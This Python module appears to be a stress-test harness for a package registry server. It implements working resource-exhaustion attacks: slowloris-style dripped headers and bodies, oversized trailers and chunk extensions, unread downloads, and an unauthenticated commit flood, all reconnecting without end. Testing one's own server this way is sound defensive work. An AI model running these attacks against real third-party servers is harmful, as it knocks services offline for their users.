"""Attackers of the server's edge: raw connections that send or read as no client does."""

import asyncio
import json
import socket
from collections.abc import Awaitable, Callable, Mapping
from contextlib import suppress
from dataclasses import dataclass
from typing import Final

_PAUSE_S: Final = 0.1  # before a connection that was closed is opened again
_DRIP_S: Final = 0.5
_BLOCK: Final = 1 << 16
_RECEIVE_BYTES: Final = 4096
_COMMIT_BYTES: Final = 72 << 20


@dataclass(frozen=True, slots=True)
class Target:
    """The address of a server, tokens for it, and paths that the attackers use."""

    host: str
    port: int
    publisher: str
    stranger: str  # without any grant
    pushes: str
    download: str
    commits: str


class Connection:
    """A raw connection to the target."""

    def __init__(self, opened: socket.socket, target: Target) -> None:
        self._socket = opened
        self.target = target

    async def send(self, data: bytes) -> None:
        await asyncio.get_running_loop().sock_sendall(self._socket, data)

    async def head(self, method: str, path: str, *lines: str, token: str = "") -> None:
        credentials = [f"Authorization: Bearer {token}"] if token else []
        head = [f"{method} {path} HTTP/1.1", "Host: registry", *credentials, *lines, "", ""]
        await self.send("\r\n".join(head).encode())

    async def read(self) -> bytes:
        return await asyncio.get_running_loop().sock_recv(self._socket, _BLOCK)

    async def repeat(self, block: bytes, *, every_s: float = 0.0) -> None:
        """Send a block again and again until the server closes the connection."""
        while True:
            await self.send(block)
            await asyncio.sleep(every_s)


Attack = Callable[[Connection], Awaitable[None]]


async def trailers(connection: Connection) -> None:
    await connection.head("POST", "/v1/suites", "Transfer-Encoding: chunked")
    await connection.send(b"0\r\n")
    await connection.repeat(b"X-Trailer: " + b"x" * 4000 + b"\r\n")


async def chunk_extensions(connection: Connection) -> None:
    path, token = connection.target.pushes, connection.target.publisher
    await connection.head("POST", path, *_MULTIPART, "Transfer-Encoding: chunked", token=token)
    await connection.repeat(b"1;" + b"x" * 4000 + b"\r\nx\r\n")


async def dripped_heads(connection: Connection) -> None:
    await connection.send(b"GET /healthz HTTP/1.1\r\nX: ")
    await connection.repeat(b"x", every_s=_DRIP_S)


async def dripped_bodies(connection: Connection) -> None:
    path, token = connection.target.pushes, connection.target.publisher
    await connection.head("POST", path, *_MULTIPART, "Content-Length: 1000000", token=token)
    await connection.repeat(b"x", every_s=_DRIP_S)


async def unread_downloads(connection: Connection) -> None:
    await connection.head("GET", connection.target.download, token=connection.target.publisher)
    await asyncio.Event().wait()


async def open_after_the_answer(connection: Connection) -> None:
    await connection.head("POST", "/v1/suites", "Content-Length: 1000000000")
    await connection.read()
    await connection.repeat(b"x", every_s=_DRIP_S)


async def commits_without_grants(connection: Connection) -> None:
    path, token = connection.target.commits, connection.target.stranger
    length = f"Content-Length: {_COMMIT_BYTES}"
    await connection.head("POST", path, length, token=token)
    line = json.dumps({"key": "deletedFile", "value": {"path": "a"}}).encode() + b"\n"
    await connection.repeat(line * (_BLOCK // len(line)))


_MULTIPART: Final = ("Content-Type: multipart/form-data; boundary=b",)
ATTACKS: Final[Mapping[str, Attack]] = {
    "trailers": trailers,
    "chunk extensions": chunk_extensions,
    "dripped heads": dripped_heads,
    "dripped bodies": dripped_bodies,
    "unread downloads": unread_downloads,
    "open after the answer": open_after_the_answer,
    "commits without grants": commits_without_grants,
}


def attack(target: Target, names: list[str], attackers: int) -> None:
    """Attack until this process is ended, with this many attackers of each kind."""
    asyncio.run(_attack(target, names, attackers))


async def _attack(target: Target, names: list[str], attackers: int) -> None:
    kinds = [ATTACKS[name] for name in names for _ in range(attackers)]
    await asyncio.gather(*(_persist(target, kind) for kind in kinds))


async def _persist(target: Target, kind: Attack) -> None:
    while True:
        with suppress(OSError), socket.socket() as opened:
            opened.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, _RECEIVE_BYTES)
            opened.setblocking(False)  # noqa: FBT003 - the socket's own signature
            address = (target.host, target.port)
            await asyncio.get_running_loop().sock_connect(opened, address)
            await kind(Connection(opened, target))
        await asyncio.sleep(_PAUSE_S)
